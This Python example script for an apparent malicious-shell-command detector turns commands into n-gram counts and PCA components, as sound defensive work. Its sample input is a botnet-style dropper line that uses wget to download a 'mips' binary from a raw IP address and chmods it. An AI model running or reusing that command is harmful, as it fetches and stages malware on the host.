"""From command text to n-gram counts to a handful of principal components."""

import numpy as np

from shellgate.featurize import build_vocabulary, feature_matrix, ngrams, tokenize_char, tokenize_term, vectorize
from shellgate.reduce import fit_pca
from shellgate.synthetic import surrogate_corpus

cmd = b"cd /tmp; wget http://45.95.168.12/mips; chmod 777 mips"

# Two tokenizations: words of 3+ alphanumerics, or every single byte.
print("terms:", tokenize_term(cmd).tokens)
print("chars:", len(tokenize_char(cmd)), "tokens for", len(cmd), "bytes")

# n-grams join their tokens with an unprintable separator so "ab"+"c" never equals "abc".
grams = ngrams(tokenize_term(cmd).tokens, 1, 2)
print("term 1-2 grams:", [g.replace("\x1f", " + ") for g in grams])

# The vocabulary is the sorted set of every n-gram seen in the training commands.
corpus = surrogate_corpus(300, 300, seed=1)
for policy in ("mixed", "malware-only"):
    v = build_vocabulary(corpus, "char", (1, 3), policy)
    print(f"char 1-3 vocabulary, {policy:12s}: {len(v)} n-grams")

vocab = build_vocabulary(corpus, "char", (1, 3))
vec = vectorize(cmd, vocab)
print(f"\n{len(vec.indices)} distinct n-grams of the command are in the vocabulary, {vec.total()} occurrences")

# Count matrix, with two trailing columns for length and distinct-byte count (both /1000).
X = feature_matrix([c.text for c in corpus], vocab)
print("feature matrix:", X.shape, "sparse, density %.3f" % (X.nnz / np.prod(X.shape)))

for target in (0.9, 0.99, 0.999):
    pca = fit_pca(X, target)
    print(f"variance target {target}: q = {pca.q:4d} of d = {pca.d}, retained {pca.retained:.5f}")

# Projected training data is uncorrelated, with variances equal to the eigenvalues.
pca = fit_pca(X, 0.99)
Z = pca.transform(X)
C = np.cov(Z, rowvar=False)
print("largest off-diagonal covariance: %.2e" % np.abs(C - np.diag(np.diag(C))).max())
print("per-component variance matches eigenvalues:", np.allclose(np.diag(C), pca.explained_variance))
